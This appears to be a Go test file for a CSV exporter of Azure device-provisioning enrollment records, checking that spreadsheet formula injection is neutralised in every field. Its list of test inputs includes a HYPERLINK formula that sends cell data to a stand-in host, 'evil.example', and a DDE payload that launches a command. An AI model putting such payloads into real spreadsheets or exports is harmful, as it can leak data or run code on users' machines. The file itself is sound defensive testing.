package fleet_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/azdps/azdps"
	"github.com/azdps/azdps/fleet"
)

// formulas are what a spreadsheet might run, and what only looks like the protection from it.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(1)", `=HYPERLINK("https://evil.example?"&A1)`, "=cmd|' /C calc'!A0", "==1", "=", "+", "-", "@",
	"\t=1", "\r=1", "\n=1", "\r\n=1", "\t", "\n", "\x00=1", "\x00", "\x00\x00+1", "\x1b=1", "\x7f=1",
	"＝1", "＋1", "－1", "＠1", " =1", "  +1", "\u00a0-1", "\u3000@1", " ＝1", "\u2028=1", "\u0085=1", "\ufeff=1", "\u200b=1", "\u202e=1", "\u2060\u00ad=1",
	"'", "''", "'=1", "''=1", "' =1", "'a", "=1\",\"=2", "\"=1\"", "\",=1", ",=1", "\n\"=1", "=1\n=2", "a\n=1", " a", "a=1", "%3D1",
}

// isFormula is what a spreadsheet makes of a cell, told in another way than the package tells it.
func isFormula(cell string) bool {
	for _, r := range cell {
		switch {
		case strings.ContainsRune("=+-@\uff1d\uff0b\uff0d\uff20", r):
			return true
		case unicode.IsGraphic(r) && !unicode.IsSpace(r):
			return false
		}
	}
	return strings.ContainsAny(cell[:min(1, len(cell))], "\t\r\n\x00")
}

// withFormula has a text wherever a record takes any.
func withFormula(text string) azdps.IndividualEnrollment {
	record := device("a")
	record.DeviceID, record.ProvisioningStatus, record.AllocationPolicy = text, azdps.ProvisioningStatus(text), azdps.AllocationPolicy(text)
	record.IoTHubHostName, record.IoTHubs = text, []string{text, text}
	record.NamespaceName, record.CertificateAuthorityName, record.CertificatePolicyName = text, text, text
	record.CustomAllocationDefinition = &azdps.CustomAllocationDefinition{WebhookURL: text, APIVersion: text}
	record.Attestation.SymmetricKey = &azdps.SymmetricKeyAttestation{PrimaryKey: text, SecondaryKey: text}
	record.InitialTwin = &azdps.InitialTwin{
		Tags:       azdps.TwinCollection{text: text},
		Properties: &azdps.InitialTwinProperties{Desired: azdps.TwinCollection{"a": map[string]any{text: []any{text}}}},
	}
	record.OptionalDeviceInformation = azdps.TwinCollection{text: text}
	record.AdditionalProperties = map[string]json.RawMessage{"x" + text: json.RawMessage(`"=1"`)}
	return record
}

// TestNoFormulas writes formulas wherever a record takes any text. No cell is one, and all are read back as they were.
func TestNoFormulas(t *testing.T) {
	t.Parallel()
	for _, text := range formulas {
		t.Run("", func(t *testing.T) {
			t.Parallel()
			record := withFormula(text)
			var file bytes.Buffer
			require.NoError(t, fleet.WriteCSV(&file, seqOf(record), nil))
			rows, err := csv.NewReader(bytes.NewReader(file.Bytes())).ReadAll()
			require.NoError(t, err)
			require.Len(t, rows, 2)
			for column, cell := range rows[1] {
				assert.False(t, isFormula(cell), "%s: %q", rows[0][column], cell)
			}
			back, err := readFirst(fleet.ReadCSV[azdps.IndividualEnrollment](&file, nil))
			require.NoError(t, err)
			require.Equal(t, record, back)

			raw := &fleet.CSVOptions{RawCells: true}
			file.Reset()
			require.NoError(t, fleet.WriteCSV(&file, seqOf(record), raw))
			if !strings.Contains(text, "\r\n") {
				rows, err = csv.NewReader(bytes.NewReader(file.Bytes())).ReadAll()
				require.NoError(t, err)
				require.Equal(t, text, rows[1][1], "the switch is off")
			}
			back, err = readFirst(fleet.ReadCSV[azdps.IndividualEnrollment](&file, raw))
			require.NoError(t, err)
			require.Equal(t, record, back)
		})
	}
}

// TestIDsThatLookLikeFormulas writes the only ones that the service takes, which begin with a dash.
func TestIDsThatLookLikeFormulas(t *testing.T) {
	t.Parallel()
	for _, id := range []string{"-1", "-", "--a", "-2:3"} {
		var file bytes.Buffer
		require.NoError(t, fleet.WriteCSV(&file, seqOf(device(id)), nil))
		assert.Contains(t, file.String(), "\n'"+id+",")
		back, err := readFirst(fleet.ReadCSV[azdps.IndividualEnrollment](&file, nil))
		require.NoError(t, err)
		assert.Equal(t, id, back.RegistrationID)
		group := group(id)
		file.Reset()
		require.NoError(t, fleet.WriteCSV(&file, seqOf(group), nil))
		groups, err := readFirst(fleet.ReadCSV[azdps.EnrollmentGroup](&file, nil))
		require.NoError(t, err)
		assert.Equal(t, group, groups)
	}
}
